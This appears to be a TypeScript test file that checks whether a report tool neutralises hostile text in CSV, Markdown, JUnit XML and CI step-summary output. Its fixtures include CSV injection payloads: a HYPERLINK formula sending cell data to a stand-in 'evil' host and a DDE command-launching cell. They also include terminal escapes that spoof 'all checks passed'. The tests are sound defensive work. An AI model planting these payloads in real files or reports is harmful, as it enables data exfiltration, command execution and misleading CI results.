import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { renderCsv } from '../../../src/report/render/csv.js';
import { renderJunit } from '../../../src/report/render/junit.js';
import { markdownTable } from '../../../src/report/render/markdown-text.js';
import type { RegressResult } from '../../../src/report/verdicts/regress.js';
import { renderRegressMarkdown } from '../../../src/report/render/regress-markdown.js';
import { runRegress } from '../../../src/report/run-regress.js';
import { tempDir } from '../../helpers/paths.js';
import { editable, sampleReport } from '../../helpers/sample-report.js';

/** A name as hostile files give it: a spreadsheet formula, a terminal escape, a lone CR, a NUL. */
const HOSTILE = '=HYPERLINK("http://evil/"&A1)\x1b[2K\rall checks passed\x00\x0b\uFFFE';

function hostileReport() {
  const r = editable(sampleReport());
  const [first, second] = r.variants;
  if (first !== undefined) Object.assign(first, { model: HOSTILE, id: `${HOSTILE}/fp32` });
  if (second !== undefined) Object.assign(second, { model: '+cmd|" /C calc"!A0', id: '-2+3/fp32', variant: '@SUM(1)' });
  return r;
}

function hostileRegress(): RegressResult {
  return {
    thresholds: { maxAccuracyDropPoints: 1, maxLatencyIncreasePercent: 10, maxSizeIncreasePercent: 5 },
    checks: [
      { variantId: `${HOSTILE}/fp32`, check: 'completed', status: 'fail', detail: `missing\x1b[0m\r\n${HOSTILE}` },
      { variantId: 'bert/int8', check: 'completed', status: 'pass', detail: 'ok\x07' },
    ],
    newVariantIds: [HOSTILE],
    warnings: [`setup\rdiffers ${HOSTILE}`],
  };
}

describe('report injection: text from files is neutralised in every format', () => {
  it('CSV: formula cells get a leading quote, controls are gone, line breaks are CRLF, numbers stay numbers', () => {
    const csv = renderCsv(hostileReport());
    assert.doesNotMatch(csv.replace(/\r\n/g, ''), /[\x00-\x1f\x7f-\x9f]/, 'no control character but CRLF');
    assert.match(csv, /\r\n"'=HYPERLINK\(""http:\/\/evil\/""&A1\)\r\nall checks passed\uFFFE",/);
    assert.match(csv, /\r\n"'\+cmd\|"" \/C calc""!A0",'@SUM\(1\),'-2\+3\/fp32,completed,\d+,/);
    assert.doesNotMatch(csv, /(^|,|\r\n)"?[=+\-@\t]/, 'no cell starts a formula');
  });

  it('Markdown: a lone CR does not end a table row or a heading line', () => {
    const table = markdownTable(['variant', 'detail'], [[`a\rb`, `c\r\nd\x1b[31m`]]);
    assert.equal(table.split('\n').length, 3);
    assert.doesNotMatch(table, /[\r\x1b]/);
    const summary = renderRegressMarkdown(hostileRegress());
    assert.doesNotMatch(summary, /[\r\x00-\x09\x0b-\x1f]/);
    const tableRows = summary.split('\n').filter((l) => l.startsWith('|'));
    assert.equal(tableRows.length, 4, 'header, rule and one row per variant');
    for (const row of tableRows) assert.equal(row.split(/(?<!\\)\|/).length, tableRows[0]?.split('|').length);
  });

  it('JUnit XML stays well-formed: only XML 1.0 characters, every & an entity, tags balanced', () => {
    const xml = renderJunit(hostileRegress());
    assert.match(xml, /^[\t\n\r\u0020-\uD7FF\uE000-\uFFFD]*$/u);
    assert.doesNotMatch(xml, /&(?!amp;|lt;|gt;|quot;|#39;)/);
    const opened = [...xml.matchAll(/<([a-z-]+)[^>]*?(\/?)>/g)].filter((m) => m[2] === '').map((m) => m[1]);
    const closed = [...xml.matchAll(/<\/([a-z-]+)>/g)].map((m) => m[1]);
    assert.deepEqual(opened.sort(), closed.sort());
    for (const m of xml.matchAll(/="([^"]*)"/g)) assert.doesNotMatch(m[1] ?? '', /[<&](?!amp;|lt;|gt;|quot;|#39;)/);
  });

  it('$GITHUB_STEP_SUMMARY gets the escaped summary, without controls or lone CRs', () => {
    const dir = tempDir();
    const baseline = path.join(dir, 'baseline.json');
    const current = path.join(dir, 'current.json');
    fs.writeFileSync(baseline, JSON.stringify(sampleReport()));
    const r = editable(sampleReport());
    r.env.cpuModel = `Evil CPU\r### all checks passed\x1b[8m`;
    fs.writeFileSync(current, JSON.stringify(r));
    const summary = path.join(dir, 'summary.md');
    runRegress({ baselineFile: baseline, currentFile: current, thresholds: hostileRegress().thresholds, stepSummaryFile: summary });
    const text = fs.readFileSync(summary, 'utf8');
    assert.match(text, /Evil CPU \\#\\#\\# all checks passed/);
    assert.doesNotMatch(text, /[\r\x1b]/);
    assert.equal(text.split('\n').filter((l) => l.startsWith('###')).length, 1, 'no second heading');
    fs.rmSync(dir, { recursive: true, force: true });
  });
});
